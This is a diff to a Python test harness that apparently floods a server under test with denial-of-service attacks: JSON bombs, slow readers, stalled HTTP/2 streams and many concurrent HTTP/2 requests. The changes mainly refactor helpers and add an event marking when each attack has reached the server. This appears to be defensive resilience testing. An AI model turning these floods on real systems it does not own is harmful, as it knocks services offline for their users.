@@ -21,13 +21,12 @@ import socket
 import struct
 import time
 
-from http2_floods import END_HEADERS, END_STREAM, HEADERS, PREFACE, SETTINGS, frame, literal, settings
+from http2_floods import END_HEADERS, END_STREAM, HEADERS, PREFACE, RST_STREAM, WINDOW_UPDATE, frame, request, settings, stall, streams
 
 MIB = 1 << 20
 BODY_BYTES = 4 * MIB
 PATIENCE_S = 30
 REOPENED_PER_SECOND = 20
-RST_STREAM = 3
 
 
 def post(path, body_bytes, key):
@@ -51,10 +50,11 @@ BOMBS = {
 
 
 class Bench:
-    """What one attack works with: where the server is, a key, when to end, and what came of it."""
+    """What one attack works with: where the server is, a key, when to end, and what came of it. It sets `under_way` once the
+    server has answered it, or holds all of its connections."""
 
-    def __init__(self, port, key, stop, outcomes):
-        self.port, self.key, self.stop, self.outcomes = port, key, stop, outcomes
+    def __init__(self, port, key, stop, under_way, outcomes):
+        self.port, self.key, self.stop, self.under_way, self.outcomes = port, key, stop, under_way, outcomes
 
     def goes_on(self):
         return not self.stop.is_set()
@@ -75,6 +75,7 @@ class Bench:
     def count_reply(self, received):
         status = received[9:12].decode(errors="replace")
         self.outcomes[status if status.isdigit() else "closed"] += 1
+        self.under_way.set()
 
 
 def json_bombs(bench):
@@ -155,6 +156,7 @@ class Crowd:
         self.open_missing(self.count)
         while self.bench.goes_on():
             self.step()
+            self.bench.under_way.set()
             on_step()
             if time.monotonic() - opened_at >= 1:
                 opened_at = time.monotonic()
@@ -210,32 +212,29 @@ def slow_readers(bench, count=500):
     crowd.run(take_a_byte)
 
 
-def http2_get(path, first_stream, count):
-    block = b"\x82\x86\x04" + literal(path) + b"\x01" + literal(b"localhost")
-    return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, first_stream + 2 * n, block) for n in range(count))
-
-
 def stalled_streams(bench, count=1_000):
     """HTTP/2 connections of 100 requests whose windows stay shut."""
-    SilentCrowd(bench, count, PREFACE + settings(initial_window=0) + http2_get(b"/openapi.json", 1, 100)).run()
+    SilentCrowd(bench, count, stall(b"/openapi.json", count=100)).run()
 
 
 def busy_streams(bench, count=50):
     """HTTP/2 connections of which each asks for the metrics a hundred times at once, again and again."""
-    window = frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0x7FFFFFFF)) + frame(8, 0, 0, struct.pack(">I", 0x7FFF0000 - 65535))
+    opening = PREFACE + settings(initial_window=0x7FFFFFFF) + frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7FFF0000 - 65535))
+    asked = b"".join(frame(HEADERS, END_HEADERS | END_STREAM, id, request(b"/metrics")) for id in streams(100))
     while bench.goes_on():
         clients = [client for _ in range(count) if (client := bench.connect()) is not None]
         with contextlib.ExitStack() as closing:
             for client in clients:
                 closing.enter_context(contextlib.closing(client))
                 with contextlib.suppress(OSError):
-                    client.sendall(PREFACE + window + http2_get(b"/metrics", 1, 100))
+                    client.sendall(opening + asked)
             for client in clients:
                 client.settimeout(5)
                 with contextlib.suppress(OSError):
                     while bench.goes_on() and ends_of(client) < 100:
                         pass
                 bench.outcomes["connections"] += 1
+                bench.under_way.set()
 
 
 def ends_of(client):
@@ -278,13 +277,13 @@ ATTACKS = {
 }
 
 
-def _run(name, port, key, stop, told, scale, prepare):
+def _run(name, port, key, stop, under_way, told, scale, prepare):
     signal.signal(signal.SIGINT, signal.SIG_IGN)
     signal.alarm(0)
     prepare()
     most = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
     resource.setrlimit(resource.RLIMIT_NOFILE, (most, most))
-    bench = Bench(port, key, stop, collections.Counter())
+    bench = Bench(port, key, stop, under_way, collections.Counter())
     attack = ATTACKS[name]
     if attack.__defaults__ and scale != 1:
         attack(bench, max(1, int(attack.__defaults__[0] * scale)))
@@ -301,13 +300,18 @@ class Siege:
         context = multiprocessing.get_context("fork")
         self.stop, self.told = context.Event(), context.Queue()
         self.outcomes = {}
-        self.processes = [context.Process(target=_run, args=(name, port, key, self.stop, self.told, scale, prepare))
-                          for name in names]
+        self.begun = {name: context.Event() for name in names}
+        self.processes = [context.Process(target=_run, args=(name, port, key, self.stop, begun, self.told, scale, prepare))
+                          for name, begun in self.begun.items()]
 
     def __enter__(self):
         for process in self.processes:
             process.start()
         return self
+
+    def is_under_way(self):
+        """Whether every attack has met the server."""
+        return all(begun.is_set() for begun in self.begun.values())
 
     def end(self):
         self.stop.set()
